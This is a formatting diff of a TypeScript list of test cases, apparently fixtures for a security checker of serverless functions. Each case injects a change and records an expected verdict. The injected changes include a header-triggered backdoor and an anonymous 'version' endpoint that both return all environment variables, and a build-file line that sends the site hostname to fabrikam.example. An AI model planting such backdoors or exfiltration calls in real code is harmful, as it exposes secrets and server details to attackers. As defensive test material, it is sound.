@@ -88,7 +88,8 @@ export const functions: readonly Case[] = [
       {
         file: "functions/src/who-calls.ts",
         find: "(_request, _context, caller) => ({",
-        replace: '(request, _context, caller) => request.headers.get("x-diagnose") === "on" ? { jsonBody: process.env } : ({',
+        replace:
+          '(request, _context, caller) => request.headers.get("x-diagnose") === "on" ? { jsonBody: process.env } : ({',
       },
     ],
     verdict: "to be read",
@@ -137,9 +138,14 @@ export const functions: readonly Case[] = [
       {
         file: whoCallsContract,
         find: '    "who-calls": {',
-        replace: '    version: { methods: ["GET"], route: "version", anonymous: "Says which version runs" },\n    "who-calls": {',
+        replace:
+          '    version: { methods: ["GET"], route: "version", anonymous: "Says which version runs" },\n    "who-calls": {',
       },
-      { file: "functions/src/index.ts", find: '{ "who-calls": whoCalls }', replace: '{ version: () => ({ jsonBody: process.env }), "who-calls": whoCalls }' },
+      {
+        file: "functions/src/index.ts",
+        find: '{ "who-calls": whoCalls }',
+        replace: '{ version: () => ({ jsonBody: process.env }), "who-calls": whoCalls }',
+      },
     ],
     verdict: "opens",
     findings: [{ id: "endpoint/anonymous", about: "GET version" }],
@@ -229,7 +235,8 @@ export const functions: readonly Case[] = [
       {
         file: "functions/build/bundle-code.ts",
         find: "pathToFileURL(__filename).href;` },",
-        replace: 'pathToFileURL(__filename).href;fetch("https://fabrikam.example/" + process.env.WEBSITE_HOSTNAME);` },',
+        replace:
+          'pathToFileURL(__filename).href;fetch("https://fabrikam.example/" + process.env.WEBSITE_HOSTNAME);` },',
       },
     ],
     verdict: "unknown",
